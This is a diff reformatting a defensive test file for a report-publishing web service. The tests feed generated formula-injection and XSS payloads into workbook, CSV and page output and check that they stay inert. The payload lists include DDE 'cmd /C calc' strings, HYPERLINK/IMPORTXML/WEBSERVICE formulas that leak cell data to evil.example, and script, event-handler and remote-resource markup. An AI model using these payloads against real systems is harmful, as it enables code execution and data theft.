@@ -41,11 +41,19 @@ afterAll(async () => {
 
 const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', ' =', '  +', '\n=', '\t=', '\r\n@'];
 const FORMULA_TAILS = [
-  'HYPERLINK("https://evil.example/?d="&A1,"点击查看")', "cmd|' /C calc'!A0", 'SUM(1+1)*cmd|" /C calc"!A0', '1+1',
-  'IMPORTXML(CONCAT("https://evil.example/?",B3),"//a")', 'DDE("cmd";"/C calc";"!A0")', 'WEBSERVICE("https://evil.example")', '2+5+cmd|\' /C notepad\'!A0',
+  'HYPERLINK("https://evil.example/?d="&A1,"点击查看")',
+  "cmd|' /C calc'!A0",
+  'SUM(1+1)*cmd|" /C calc"!A0',
+  '1+1',
+  'IMPORTXML(CONCAT("https://evil.example/?",B3),"//a")',
+  'DDE("cmd";"/C calc";"!A0")',
+  'WEBSERVICE("https://evil.example")',
+  "2+5+cmd|' /C notepad'!A0",
 ];
 const formulaPayloads = fc.sample(
-  fc.tuple(fc.constantFrom(...FORMULA_STARTS), fc.constantFrom(...FORMULA_TAILS), fc.string({ maxLength: 20 })).map(([a, b, c]) => `${a}${b}${c}`),
+  fc
+    .tuple(fc.constantFrom(...FORMULA_STARTS), fc.constantFrom(...FORMULA_TAILS), fc.string({ maxLength: 20 }))
+    .map(([a, b, c]) => `${a}${b}${c}`),
   { numRuns: 1100, seed: SEED },
 );
 
@@ -123,7 +131,11 @@ test('formula injection: no payload becomes a formula in the generated workbook 
   expect(formulaPayloads.length).toBeGreaterThanOrEqual(1000);
   // The template's own formulas (the title joins 机关名称 and 年度): payloads must add none and change none.
   const formulasOf = (bytes: Uint8Array) =>
-    [...sheetParts(xlsxParts(bytes))].flatMap(([name, xml]) => [...xml.matchAll(/<c r="([A-Z]+\d+)"[^>]*>(?:(?!<\/c>).)*?<f>([^<]*)<\/f>/g)].map((m) => `${name}!${m[1]}=${m[2]}`));
+    [...sheetParts(xlsxParts(bytes))].flatMap(([name, xml]) =>
+      [...xml.matchAll(/<c r="([A-Z]+\d+)"[^>]*>(?:(?!<\/c>).)*?<f>([^<]*)<\/f>/g)].map(
+        (m) => `${name}!${m[1]}=${m[2]}`,
+      ),
+    );
   const templateFormulas = formulasOf(await writeWorkbook({ report: acceptedReport(YEAR, 'plain') }));
   expect(templateFormulas.length).toBeGreaterThan(0);
   for (const { report, placed } of carriers(formulaPayloads)) {
@@ -156,7 +168,11 @@ test('formula injection: no payload becomes a formula in the generated workbook 
     const agency = `csv-${i}`;
     const token = await signDevToken(stack.key, { agency });
     const report = acceptedReport(YEAR, `csv-${i}`, name.slice(0, 200));
-    const r = await stack.call('http', 'POST', '/api/reports', { token, headers: { 'content-type': 'application/json', 'idempotency-key': `csv-${i}` }, body: JSON.stringify(report) });
+    const r = await stack.call('http', 'POST', '/api/reports', {
+      token,
+      headers: { 'content-type': 'application/json', 'idempotency-key': `csv-${i}` },
+      body: JSON.stringify(report),
+    });
     tally.add('accepted report, agency name a formula', r.status);
     expect(r.status).toBe(201);
   }
@@ -164,24 +180,50 @@ test('formula injection: no payload becomes a formula in the generated workbook 
   tally.add('open-data CSV over HTTPS', csv.status);
   expect(csv.status).toBe(200);
   expectCsvInert(csv.text);
-  const agencyFields = csvFields(csv.text).filter((f) => f.quoted && names.some((n) => f.text.endsWith(n.trim().slice(-10))));
+  const agencyFields = csvFields(csv.text).filter(
+    (f) => f.quoted && names.some((n) => f.text.endsWith(n.trim().slice(-10))),
+  );
   expect(agencyFields.length).toBeGreaterThanOrEqual(names.length);
 });
 
 // ── Script and markup ────────────────────────────────────────────────────────────────────────────────────────────
 
 const VECTORS = [
-  '<script>window.__pwned=1</script>', '<img src=x onerror="window.__pwned=1">', '"><svg onload=window.__pwned=1>',
-  "'><iframe src=\"javascript:parent.__pwned=1\"></iframe>", '</title><script>window.__pwned=1</script>', '<a href="javascript:window.__pwned=1">点我</a>',
-  '<style>@import url(https://evil.example/x.css);</style>', '<link rel=stylesheet href=https://evil.example/y.css>', '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<object data="https://evil.example/z"></object>', '<base href="https://evil.example/">', '<!--', '-->', ']]>', '<![CDATA[x]]>', '{{constructor.constructor("window.__pwned=1")()}}',
-  '<body onload=window.__pwned=1>', '<input autofocus onfocus=window.__pwned=1>', '<details open ontoggle=window.__pwned=1>', '&lt;script&gt;', '&#60;script&#62;alert(1)', '\u2028\u2029<b>粗体</b>',
-  '<img src="https://evil.example/pixel.gif">', '<form action=https://evil.example><button>提交</button></form>', 'javascript:alert(1)', '<svg><use href="https://evil.example/s.svg#x"/></svg>',
+  '<script>window.__pwned=1</script>',
+  '<img src=x onerror="window.__pwned=1">',
+  '"><svg onload=window.__pwned=1>',
+  '\'><iframe src="javascript:parent.__pwned=1"></iframe>',
+  '</title><script>window.__pwned=1</script>',
+  '<a href="javascript:window.__pwned=1">点我</a>',
+  '<style>@import url(https://evil.example/x.css);</style>',
+  '<link rel=stylesheet href=https://evil.example/y.css>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<object data="https://evil.example/z"></object>',
+  '<base href="https://evil.example/">',
+  '<!--',
+  '-->',
+  ']]>',
+  '<![CDATA[x]]>',
+  '{{constructor.constructor("window.__pwned=1")()}}',
+  '<body onload=window.__pwned=1>',
+  '<input autofocus onfocus=window.__pwned=1>',
+  '<details open ontoggle=window.__pwned=1>',
+  '&lt;script&gt;',
+  '&#60;script&#62;alert(1)',
+  '\u2028\u2029<b>粗体</b>',
+  '<img src="https://evil.example/pixel.gif">',
+  '<form action=https://evil.example><button>提交</button></form>',
+  'javascript:alert(1)',
+  '<svg><use href="https://evil.example/s.svg#x"/></svg>',
 ];
-const markupPayloads = fc.sample(
-  fc.tuple(fc.constantFrom(...VECTORS), fc.string({ maxLength: 12 }), fc.constantFrom(...VECTORS)).map(([a, b, c]) => `${a}${b}${c}`),
-  { numRuns: 1100, seed: SEED + 1 },
-).map((p, i) => `MK${i}X${p}`);
+const markupPayloads = fc
+  .sample(
+    fc
+      .tuple(fc.constantFrom(...VECTORS), fc.string({ maxLength: 12 }), fc.constantFrom(...VECTORS))
+      .map(([a, b, c]) => `${a}${b}${c}`),
+    { numRuns: 1100, seed: SEED + 1 },
+  )
+  .map((p, i) => `MK${i}X${p}`);
 
 test('script and markup in every text field: inert on the published pages and the index, in Chromium', async () => {
   const PER_REPORT = 55;
@@ -196,7 +238,11 @@ test('script and markup in every text field: inert on the published pages and th
     report.sections.problems = `${report.sections.problems}\n${part(26, 40)}`;
     report.sections.other = `${report.sections.other}\n${part(40, PER_REPORT)}`;
     const token = await signDevToken(stack.key, { agency });
-    const r = await stack.call('http', 'POST', '/api/reports', { token, headers: { 'content-type': 'application/json', 'idempotency-key': agency, 'x-confirm-warnings': 'all' }, body: JSON.stringify(report) });
+    const r = await stack.call('http', 'POST', '/api/reports', {
+      token,
+      headers: { 'content-type': 'application/json', 'idempotency-key': agency, 'x-confirm-warnings': 'all' },
+      body: JSON.stringify(report),
+    });
     tally.add('accepted report, markup in every text field', r.status);
     if (r.status !== 201) throw new Error(`${agency} refused: ${r.text.slice(0, 400)}`);
     reports.push({ agency, markers: chunk.map((p) => p.slice(0, p.indexOf('X') + 1)) });
@@ -205,7 +251,10 @@ test('script and markup in every text field: inert on the published pages and th
   const browser: Browser = await launchChromium();
   try {
     const context = await browser.newContext({ ignoreHTTPSErrors: true });
-    const pages = [...reports.map((r) => ({ path: `/api/published/${r.agency}/${YEAR}`, markers: r.markers })), { path: `/api/published/${YEAR}`, markers: reports.map((r) => r.markers[0]!) }];
+    const pages = [
+      ...reports.map((r) => ({ path: `/api/published/${r.agency}/${YEAR}`, markers: r.markers })),
+      { path: `/api/published/${YEAR}`, markers: reports.map((r) => r.markers[0]!) },
+    ];
     for (const { path, markers } of pages) {
       const page = await context.newPage();
       const seen = { dialogs: [] as string[], requests: [] as string[], errors: [] as string[] };
@@ -215,7 +264,9 @@ test('script and markup in every text field: inert on the published pages and th
       await page.addInitScript(() => {
         const w = window as unknown as { __violations: string[] };
         w.__violations = [];
-        document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
+        document.addEventListener('securitypolicyviolation', (e) =>
+          w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`),
+        );
       });
       const url = `${stack.target.url}${path}`;
       const res = await page.goto(url, { waitUntil: 'load' });
